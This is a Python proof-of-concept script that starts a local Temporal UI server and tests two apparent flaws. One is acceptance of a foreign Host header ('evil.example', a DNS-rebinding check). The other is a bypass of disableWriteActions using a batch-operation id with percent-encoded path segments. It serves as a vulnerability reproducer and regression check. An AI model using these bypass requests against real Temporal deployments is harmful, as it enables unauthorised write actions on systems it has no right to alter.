"""Temporal's page answers under any name, and its switch against writing is talked around by an escaped path.

Needs a server and the page's program: `python page_writes.py ADDRESS UI_SERVER` (github.com/temporalio/ui-server).
1. A name of somebody else's that resolves to this machine gets the page (DNS rebinding).
2. With `disableWriteActions` a batch operation is refused, but not if its id holds the escaped words of a query.
"""

import http.client
import json
import socket
import subprocess
import sys
import tempfile
import time
from pathlib import Path

address, program = sys.argv[1:]
with socket.create_server(("127.0.0.1", 0)) as free:
    port = free.getsockname()[1]


def asked(method: str, path: str, **headers: str) -> tuple[int, str, str]:
    """Status, body and cookies of one answer."""
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=20)
    connection.request(method, path, body="{}" if method == "POST" else None, headers=headers)
    answer = connection.getresponse()
    return answer.status, answer.read().decode(errors="replace"), answer.getheader("Set-Cookie") or ""


def is_open() -> bool:
    """Whether the page has started."""
    with socket.socket() as probe:
        return probe.connect_ex(("127.0.0.1", port)) == 0


with tempfile.TemporaryDirectory() as folder:
    settings = {"temporalGrpcAddress": address, "host": "127.0.0.1", "port": port, "enableUi": True}
    # JSON is YAML.
    Path(folder, "page.yaml").write_text(json.dumps({**settings, "disableWriteActions": True}), encoding="utf-8")
    page = subprocess.Popen(
        [program, "--root", "/", "--config", folder, "--env", "page", "start"], stderr=-3, stdout=-3
    )
    try:
        while not is_open() and page.poll() is None:
            time.sleep(0.1)
        foreign = asked("GET", "/api/v1/settings", Host="evil.example")[0]
        cookie = asked("GET", "/")[2].split(";")[0]
        ours = {"Cookie": cookie, "X-CSRF-Token": cookie.partition("=")[2], "Content-Type": "application/json"}
        batch = "/api/v1/namespaces/default/batch-operations"
        plain = asked("POST", f"{batch}/x", **ours)
        escaped = asked("POST", f"{batch}/x%2Fworkflows%2Fy%2Fquery%2Fz", **ours)
    finally:
        page.terminate()
        page.wait()
print(f"to another name: {foreign}; a batch: {plain[:2]}; with an escaped path: {escaped[:2]}")
print("still there" if foreign == 200 or escaped[0] != plain[0] else "mended")
